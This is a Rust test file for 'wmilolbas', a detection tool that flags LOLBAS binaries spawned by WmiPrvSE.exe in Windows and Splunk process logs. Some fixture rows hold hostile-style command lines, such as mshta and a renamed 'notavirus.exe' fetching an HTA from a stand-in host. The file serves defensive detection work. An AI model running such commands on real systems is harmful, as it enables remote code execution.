//! `wmilolbas scan`: the real binary on fixture files, compared with golden
//! outputs and with the detection's expected answers.

use crate::util::*;

fn scan(args: &[&str]) -> Run {
    let mut full = vec!["scan"];
    full.extend_from_slice(args);
    run(&full, b"")
}

/// Runs `scan` from `tests/data`, so file names (and goldens) are relative.
fn scan_in_data(args: &[&str]) -> Run {
    let mut full = vec!["scan"];
    full.extend_from_slice(args);
    run_program(&bin(), &full, b"", Some(&data("")))
}

fn csv_out(r: &Run) -> Vec<Vec<String>> {
    csv_rows(&r.stdout)
}

fn col(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let i = rows[0]
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name}"));
    rows[1..].iter().map(|r| r[i].clone()).collect()
}

/// `cargo run --release -- scan` on a fresh clone: the built-in sample's
/// four WMI-spawned LOLBAS events (three rundll32.exe, one explorer.exe).
#[test]
fn builtin_sample_shows_the_four_wmi_spawned_lolbas_events() {
    let r = scan(&["--format", "csv"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(
        r.stderr,
        "wmilolbas scan: 2 files, 50 events read (50 process creations), 4 detections\n"
    );
    let rows = csv_out(&r);
    assert_eq!(
        col(&rows, "process_name"),
        [
            "rundll32.exe",
            "rundll32.exe",
            "explorer.exe",
            "rundll32.exe"
        ]
    );
    assert_eq!(
        col(&rows, "source"),
        [
            "sample:sysmon_eid1_wmi_related.xml.log:1",
            "sample:sysmon_eid1_wmi_related.xml.log:4",
            "sample:sysmon_eid1_wmi_related.xml.log:10",
            "sample:sysmon_eid1_wmi_related.xml.log:13"
        ]
    );
    assert_golden("scan_sample.csv", &r.stdout);
}

/// The table for people and JSON lines for tools carry the same detections.
#[test]
fn builtin_sample_table_and_json() {
    let r = scan(&["--format", "table"]);
    assert_eq!(r.code, 0);
    assert_golden("scan_sample.table", &r.stdout);
    let r = scan(&["--format", "json"]);
    assert_eq!(r.code, 0);
    let lines: Vec<serde_json::Value> = r
        .stdout_str()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 4);
    assert!(lines.iter().all(|l| l["risk_score"] == "54"
        && l["annotations.mitre_attack"] == serde_json::json!(["T1047"])));
    // The search protocol's multivalue companions are not in scan's output.
    assert!(lines.iter().all(|l| l
        .as_object()
        .unwrap()
        .keys()
        .all(|k| !k.starts_with("__mv_"))));
    assert_eq!(
        lines[0]["risk_message"],
        "Wmiprsve.exe spawned a LOLBAS process on MSEDGEWIN10."
    );
}

/// With `--lineage`, CSV carries neither the `__mv_` companion columns nor
/// anything in their place; a lineage detection's techniques are one cell,
/// one per line, and the same fields are JSON arrays.
#[test]
fn lineage_output_has_no_mv_columns_and_json_annotations_are_arrays() {
    let r = scan_in_data(&["--lineage", "--format", "csv", "lineage/chains_guid.csv"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let rows = csv_out(&r);
    assert!(
        rows[0].iter().all(|h| !h.starts_with("__mv_")),
        "{:?}",
        rows[0]
    );
    assert_eq!(rows[0].last().unwrap(), "lineage_path");
    let ids = col(&rows, "annotations.mitre_attack.mitre_technique_id");
    assert!(ids.iter().any(|v| v == "T1047\nT1059.003"), "{ids:?}");
    let r = scan_in_data(&["--lineage", "--format", "json", "lineage/chains_guid.csv"]);
    for line in r.stdout_str().lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        for f in [
            "annotations.mitre_attack",
            "annotations.mitre_attack.mitre_technique_id",
            "annotations.mitre_attack.mitre_technique",
        ] {
            assert!(v[f].is_array(), "{f}: {line}");
        }
        assert!(v
            .as_object()
            .unwrap()
            .keys()
            .all(|k| !k.starts_with("__mv_")));
    }
}

/// The Sysmon XML file: exactly 4 detections in both modes.
#[test]
fn sysmon_xml_finds_exactly_four_in_both_modes() {
    let f = data("attack_data/evtx_attack_samples/sysmon_eid1_wmi_related.xml.log");
    for mode in [&["--strict"][..], &[]] {
        let mut args = vec!["--format", "csv"];
        args.extend_from_slice(mode);
        args.push(f.to_str().unwrap());
        let r = scan(&args);
        assert_eq!(r.code, 0, "{}", r.stderr);
        let rows = csv_out(&r);
        let lines: Vec<String> = col(&rows, "source")
            .iter()
            .map(|s| s.rsplit(':').next().unwrap().to_string())
            .collect();
        assert_eq!(lines, ["1", "4", "10", "13"], "{mode:?}");
    }
}

/// The OTRF JSON lines (WmiPrvSE → cmd → MSBuild and friends): none match.
#[test]
fn otrf_jsonl_finds_nothing() {
    let f = data("attack_data/otrf_security_datasets/sysmon_eid1_wmiprvse_lineage.jsonl");
    let r = scan(&["--format", "csv", f.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.is_empty());
    assert_eq!(
        r.stderr,
        "wmilolbas scan: 1 file, 14 events read (14 process creations), 0 detections\n"
    );
}

/// Rows of a CIM CSV whose `expected_match` is true (file line numbers).
fn expected_lines(file: &str) -> Vec<String> {
    let mut r = csv::Reader::from_path(data(file)).unwrap();
    let idx = r
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "expected_match")
        .unwrap();
    // These files have no multi-line fields: data row i is on line i + 2.
    r.records()
        .map(|x| x.unwrap())
        .enumerate()
        .filter(|(_, x)| &x[idx] == "true")
        .map(|(i, _)| (i + 2).to_string())
        .collect()
}

/// On the CIM CSVs, `--strict` is exactly `expected_match`; the default mode
/// adds the renamed binaries (original_file_name) and nothing else.
#[test]
fn cim_csvs_give_the_rules_answer_in_both_modes() {
    for (file, renamed) in [
        (
            "attack_data/cim/endpoint_processes_from_samples.csv",
            vec![],
        ),
        ("attack_data/cim/synthetic_edge_cases.csv", vec!["9", "11"]),
    ] {
        let strict = scan_in_data(&["--strict", "--format", "csv", file]);
        assert_eq!(strict.code, 0, "{}", strict.stderr);
        let got: Vec<String> = col(&csv_out(&strict), "source")
            .iter()
            .map(|s| s.rsplit(':').next().unwrap().to_string())
            .collect();
        let want = expected_lines(file);
        assert_eq!(got, want, "{file} strict");

        let default = scan_in_data(&["--format", "csv", file]);
        let rows = csv_out(&default);
        let lines: Vec<String> = col(&rows, "source")
            .iter()
            .map(|s| s.rsplit(':').next().unwrap().to_string())
            .collect();
        let mut want_default: Vec<String> = want.clone();
        want_default.extend(renamed.iter().map(|s| s.to_string()));
        want_default.sort_by_key(|s| s.parse::<u32>().unwrap());
        assert_eq!(lines, want_default, "{file} default");
        for (line, reason) in lines.iter().zip(col(&rows, "match_reason")) {
            let expect = if renamed.contains(&line.as_str()) {
                "original_file_name"
            } else {
                "process_name"
            };
            assert_eq!(reason, expect, "{file}:{line}");
        }
        let golden = format!(
            "scan_{}.csv",
            std::path::Path::new(file)
                .file_stem()
                .unwrap()
                .to_str()
                .unwrap()
        );
        assert_golden(&golden, &default.stdout);
    }
}

/// Annotate mode returns every process row.
#[test]
fn annotate_mode_returns_every_row() {
    let path = data("attack_data/cim/synthetic_edge_cases.csv");
    let r = scan(&[
        "--mode",
        "annotate",
        "--format",
        "csv",
        path.to_str().unwrap(),
    ]);
    assert_eq!(r.code, 0);
    let rows = csv_out(&r);
    assert_eq!(rows.len(), 13);
    assert_eq!(
        col(&rows, "risk_score")
            .iter()
            .filter(|s| s.as_str() == "54")
            .count(),
        8
    );
}

/// The detection options work as flags, with the search command's meaning.
#[test]
fn options_as_flags() {
    let dir = tempdir();
    let catalog = dir.join("cat.csv");
    std::fs::write(&catalog, "process_name\ncmd.exe\n").unwrap();
    let path = data("attack_data/cim/synthetic_edge_cases.csv");
    let r = scan(&[
        "--format",
        "json",
        "--impact",
        "75",
        "--confidence",
        "50",
        "--message",
        "$user$ on $dest$",
        "--catalog",
        catalog.to_str().unwrap(),
        path.to_str().unwrap(),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let lines: Vec<serde_json::Value> = r
        .stdout_str()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 1, "only the cmd.exe row");
    assert_eq!(lines[0]["process_name"], "cmd.exe");
    assert_eq!(lines[0]["risk_score"], "37.5");
    assert_eq!(
        lines[0]["risk_message"],
        "EXAMPLE\\alice on host-synthetic-01"
    );

    let r = scan(&[
        "--format",
        "csv",
        "--parent",
        "svchost.exe",
        path.to_str().unwrap(),
    ]);
    let rows = csv_out(&r);
    assert_eq!(col(&rows, "parent_process_name"), ["svchost.exe"]);
}

/// `--profile` is the search command's `profile=`: the built-in sample's
/// four detections with the 2025 identity, score and message; explicit
/// impact/confidence still win; the threat object is the child.
#[test]
fn profile_flag_sets_identity_and_score() {
    let r = scan(&["--format", "csv", "--profile", "escu2025"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let rows = csv_out(&r);
    assert_eq!(
        col(&rows, "detection_id"),
        ["b7e11721-08b1-4d8b-9628-813bb2380514"; 4]
    );
    assert_eq!(col(&rows, "risk_score"), ["50"; 4]);
    assert_eq!(
        col(&rows, "risk_message"),
        ["Wmiprvse.exe spawned a LOLBAS process on MSEDGEWIN10."; 4]
    );
    assert_eq!(
        col(&rows, "threat_object"),
        [
            "rundll32.exe",
            "rundll32.exe",
            "explorer.exe",
            "rundll32.exe"
        ]
    );
    let r = scan(&[
        "--format",
        "csv",
        "--profile",
        "escu2025",
        "--impact",
        "80",
        "--confidence",
        "50",
    ]);
    assert_eq!(col(&csv_out(&r), "risk_score"), ["40"; 4]);
    let r = scan(&["--profile", "escu1999"]);
    assert_eq!(r.code, 2);
    assert_eq!(
        r.stderr,
        "wmilolbas scan: invalid value \"escu1999\" for --profile: expected one of escu2021, escu2025\n"
    );
}

/// Bad flag values are refused with the allowed values and exit 2.
#[test]
fn bad_flags_are_refused() {
    let r = scan(&["--impact", "300"]);
    assert_eq!(r.code, 2);
    assert_eq!(r.stderr, "wmilolbas scan: invalid value \"300\" for --impact: expected a whole number from 0 to 100\n");
    let r = scan(&["--format", "xml"]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("expected table, csv or json"),
        "{}",
        r.stderr
    );
    let r = scan(&["--bogus"]);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("--bogus"), "{}", r.stderr);
}

/// A missing file and a malformed line are reported with file and line,
/// exit 1, and the other lines and files are still scanned.
#[test]
fn bad_inputs_are_reported_and_the_rest_is_scanned() {
    let dir = tempdir();
    let jsonl = dir.join("events.jsonl");
    std::fs::write(
        &jsonl,
        "{\"EventID\":1,\"Image\":\"C:\\\\W\\\\mshta.exe\",\"ParentImage\":\"C:\\\\W\\\\WmiPrvSE.exe\"}\n\
         {\"EventID\":1,\"Image\":\n\
         \n\
         {\"EventID\":1,\"Image\":\"C:\\\\W\\\\wmic.exe\",\"ParentImage\":\"C:\\\\W\\\\WmiPrvSE.exe\"}\n",
    )
    .unwrap();
    let missing = dir.join("nope.csv");
    let r = scan(&[
        "--format",
        "csv",
        missing.to_str().unwrap(),
        jsonl.to_str().unwrap(),
    ]);
    assert_eq!(r.code, 1);
    let lines: Vec<&str> = r.stderr.lines().collect();
    assert_eq!(lines.len(), 3, "{}", r.stderr);
    assert!(
        lines[0].starts_with(&format!("wmilolbas: cannot open {}: ", missing.display())),
        "{}",
        lines[0]
    );
    assert_eq!(
        lines[1],
        format!(
            "wmilolbas: {}:2: not valid JSON (unexpected end at column 21)",
            jsonl.display()
        )
    );
    assert_eq!(
        lines[2],
        "wmilolbas scan: 1 file, 3 events read (2 process creations), 2 detections, 2 errors"
    );
    assert_eq!(csv_out(&r).len(), 3);

    let r = scan(&["--format", "csv", "--strict-input", jsonl.to_str().unwrap()]);
    assert_eq!(r.code, 1);
    assert_eq!(
        csv_out(&r).len(),
        2,
        "stops after the first detection's file line 2 error"
    );
}

/// `-` reads stdin; the format is detected from content.
#[test]
fn stdin_is_read_with_dash() {
    let xml = std::fs::read(data(
        "attack_data/evtx_attack_samples/sysmon_eid1_wmi_related.xml.log",
    ))
    .unwrap();
    let r = run(&["scan", "--format", "csv", "-"], &xml);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(csv_out(&r).len(), 5);
    assert_eq!(
        r.stderr,
        "wmilolbas scan: 1 file, 36 events read (36 process creations), 4 detections\n"
    );
}

/// Concatenated XML events (no newlines, inside an <Events> wrapper) and
/// Security 4688 events.
#[test]
fn concatenated_xml_and_security_4688() {
    let ev = |id: u32, data: &str| {
        format!("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>{id}</EventID><TimeCreated SystemTime='2024-05-01T10:00:00.123456Z'/><Channel>Security</Channel><Computer>DC01</Computer></System><EventData>{data}</EventData></Event>")
    };
    let d = |k: &str, v: &str| format!("<Data Name='{k}'>{v}</Data>");
    let xml = format!(
        "<?xml version='1.0'?><Events>{}{}{}</Events>",
        ev(
            4688,
            &(d("NewProcessName", "C:\\Windows\\System32\\mshta.exe")
                + &d(
                    "ParentProcessName",
                    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
                )
                + &d("CommandLine", "mshta &quot;x&quot; &amp; y")
                + &d("SubjectUserName", "bob")
                + &d("SubjectDomainName", "CORP"))
        ),
        ev(4624, &d("TargetUserName", "bob")),
        ev(
            4688,
            &(d("NewProcessName", "C:\\Windows\\System32\\cmd.exe")
                + &d(
                    "ParentProcessName",
                    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
                ))
        ),
    );
    let r = run(&["scan", "--format", "json", "-"], xml.as_bytes());
    assert_eq!(r.code, 0, "{}", r.stderr);
    let lines: Vec<serde_json::Value> = r
        .stdout_str()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["process"], "mshta \"x\" & y");
    assert_eq!(lines[0]["user"], "CORP\\bob");
    assert_eq!(lines[0]["dest"], "DC01");
    assert_eq!(lines[0]["_time"], "1714557600.123456");
    assert_eq!(
        r.stderr,
        "wmilolbas scan: 1 file, 3 events read (2 process creations), 1 detection\n"
    );
}

/// A malformed XML event is reported with its line; the next one is read.
#[test]
fn malformed_xml_event_is_reported_and_skipped() {
    let good = std::fs::read_to_string(data(
        "attack_data/evtx_attack_samples/sysmon_eid1_wmi_related.xml.log",
    ))
    .unwrap();
    let first = good.lines().next().unwrap();
    let input = format!(
        "{}\n<Event><System><EventID>1</EventID></Sys></Event>\n{first}\n",
        first
    );
    let r = run(&["scan", "--format", "csv", "-"], input.as_bytes());
    assert_eq!(r.code, 1);
    assert!(
        r.stderr.starts_with("wmilolbas: -:2: malformed XML"),
        "{}",
        r.stderr
    );
    assert_eq!(csv_out(&r).len(), 3);
}

/// A CSV record over 16 MiB (one huge quoted field) is reported with its
/// line, and the file is not read further; the rows before it count.
#[test]
fn csv_record_over_16_mib_is_reported_with_its_line() {
    let dir = tempdir();
    let path = dir.join("huge.csv");
    let mut csv = b"parent_process_name,process_name,process\nwmiprvse.exe,mshta.exe,ok\nwmiprvse.exe,mshta.exe,\"".to_vec();
    csv.resize(csv.len() + (17 << 20), b'a');
    csv.extend_from_slice(b"\"\nwmiprvse.exe,mshta.exe,after\n");
    std::fs::write(&path, &csv).unwrap();
    let r = scan(&["--format", "csv", path.to_str().unwrap()]);
    assert_eq!(r.code, 1);
    assert_eq!(
        r.stderr,
        format!(
            "wmilolbas: {}:3: CSV record is larger than 16 MiB; the rest of the file is not read\n\
             wmilolbas scan: 1 file, 1 event read (1 process creation), 1 detection, 1 error\n",
            path.display()
        )
    );
    assert_eq!(col(&csv_out(&r), "process"), ["ok"]);
}

/// The table's data lines cut into columns (two spaces or more apart; an
/// empty cell disappears).
fn table_cells(stdout: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8_lossy(stdout);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[0]
            .split("  ")
            .map(str::trim)
            .filter(|c| !c.is_empty())
            .collect::<Vec<_>>(),
        [
            "time (UTC)",
            "host",
            "user",
            "parent → child",
            "command line",
            "reason",
            "score"
        ]
    );
    assert!(lines[1].starts_with('─'), "{text}");
    lines[2..]
        .iter()
        .map(|l| {
            l.split("  ")
                .map(str::trim)
                .filter(|c| !c.is_empty())
                .map(String::from)
                .collect()
        })
        .collect()
}

/// `--format table`: every column of a plain detection and of a renamed
/// binary (shown with its original name, reason `original_file_name`),
/// and in annotate mode a `-` reason for the row that did not match.
#[test]
fn table_shows_reason_and_renamed_binary_in_every_column() {
    let dir = tempdir();
    let csv = dir.join("rows.csv");
    std::fs::write(
        &csv,
        "_time,dest,user,parent_process_name,process_name,process_path,process,original_file_name\n\
         1700000060,host-1,EXAMPLE\\alice,WmiPrvSE.exe,mshta.exe,C:\\Windows\\System32\\mshta.exe,mshta http://x/a.hta,MSHTA.EXE\n\
         1700000120,host-1,EXAMPLE\\alice,WmiPrvSE.exe,notavirus.exe,C:\\Users\\Public\\notavirus.exe,notavirus.exe http://x/b.hta,MSHTA.EXE\n\
         1700000180,host-1,EXAMPLE\\alice,WmiPrvSE.exe,powershell.exe,C:\\W\\powershell.exe,powershell -nop,PowerShell.EXE\n",
    )
    .unwrap();
    let plain = [
        "2023-11-14 22:14:20",
        "host-1",
        "EXAMPLE\\alice",
        "WmiPrvSE.exe → mshta.exe",
        "mshta http://x/a.hta",
        "process_name",
        "54",
    ];
    let renamed = [
        "2023-11-14 22:15:20",
        "host-1",
        "EXAMPLE\\alice",
        "WmiPrvSE.exe → notavirus.exe (= MSHTA.EXE)",
        "notavirus.exe http://x/b.hta",
        "original_file_name",
        "54",
    ];
    let r = scan(&["--format", "table", csv.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(table_cells(&r.stdout), [plain.to_vec(), renamed.to_vec()]);

    let r = scan(&[
        "--format",
        "table",
        "--mode",
        "annotate",
        csv.to_str().unwrap(),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let miss = [
        "2023-11-14 22:16:20",
        "host-1",
        "EXAMPLE\\alice",
        "WmiPrvSE.exe → powershell.exe",
        "powershell -nop",
        "-",
    ];
    assert_eq!(
        table_cells(&r.stdout),
        [plain.to_vec(), renamed.to_vec(), miss.to_vec()]
    );

    // The same rows as CSV: the table's reason is `match_reason`.
    let r = scan(&["--format", "csv", csv.to_str().unwrap()]);
    let rows = csv_out(&r);
    assert_eq!(
        col(&rows, "match_reason"),
        ["process_name", "original_file_name"]
    );
    assert_eq!(col(&rows, "process_name"), ["mshta.exe", "notavirus.exe"]);
    assert_eq!(col(&rows, "original_file_name"), ["MSHTA.EXE", "MSHTA.EXE"]);
}

/// Runs the binary with no arguments on a pseudo-terminal (util-linux
/// `script`, else Python's `pty`); returns what the terminal showed.
#[cfg(unix)]
fn on_a_terminal(args: &[&str]) -> Run {
    let bin = bin();
    let has_script = std::process::Command::new("script")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    let cmd = if has_script {
        // -e: script exits with the child's status.
        let mut line = format!("'{}'", bin.display());
        for a in args {
            line.push_str(&format!(" '{a}'"));
        }
        let mut cmd = std::process::Command::new("script");
        cmd.args(["-qec", &line, "/dev/null"]);
        cmd
    } else {
        let mut cmd = std::process::Command::new(python());
        cmd.args([
            "-c",
            "import os, pty, sys; sys.exit(os.waitstatus_to_exitcode(pty.spawn(sys.argv[1:])))",
        ])
        .arg(&bin)
        .args(args);
        cmd
    };
    run_with_deadline(cmd, "wmilolbas on a terminal")
}

/// On a terminal (never how splunkd runs it), no arguments print the usage
/// and exit 2 instead of waiting silently for the protocol; so does
/// `--stateful`.
#[cfg(unix)]
#[test]
fn no_arguments_on_a_terminal_print_the_usage_and_exit_2() {
    for args in [&[][..], &["--stateful"]] {
        let r = on_a_terminal(args);
        assert_eq!(r.code, 2, "{args:?}: {}{}", r.stdout_str(), r.stderr);
        let shown = r.stdout_str();
        assert!(
            shown.starts_with("usage: wmilolbas "),
            "{args:?}: {shown:?}"
        );
        assert!(
            shown.contains("wmilolbas scan [OPTIONS] [FILE...]"),
            "{shown}"
        );
    }
    // With a pipe on stdin (as splunkd runs it) it speaks the protocol:
    // EOF before getinfo is a clean end, not the usage.
    let r = run(&[], b"");
    assert!(!r.stderr.contains("usage:"), "{}", r.stderr);
}

/// `--help` names every input kind, `.evtx` included.
#[test]
fn help_mentions_evtx() {
    for args in [&["--help"][..], &["scan", "--help"]] {
        let r = run(args, b"");
        assert_eq!(r.code, 0);
        assert!(
            r.stdout_str().contains(".evtx"),
            "{args:?}: {}",
            r.stdout_str()
        );
    }
}

/// `scan --help` lists every export layout the tool recognises, by the
/// name its messages use.
#[test]
fn scan_help_lists_every_layout() {
    let r = run(&["scan", "--help"], b"");
    let help = r.stdout_str();
    for layout in wmilolbas::layouts::LAYOUTS {
        assert!(
            help.contains(layout.name),
            "{} not in:\n{help}",
            layout.name
        );
        let named = |name: &str| help.contains(name.trim_start_matches("Processes."));
        let names: Vec<&str> = layout
            .signatures
            .iter()
            .flat_map(|s| s.iter().copied())
            .collect();
        assert!(
            layout
                .signatures
                .iter()
                .all(|sig| sig.iter().any(|n| named(n)))
                || names.iter().filter(|n| named(n)).count() >= 2,
            "{}: the help names too few of the fields it is recognised by",
            layout.name
        );
    }
}
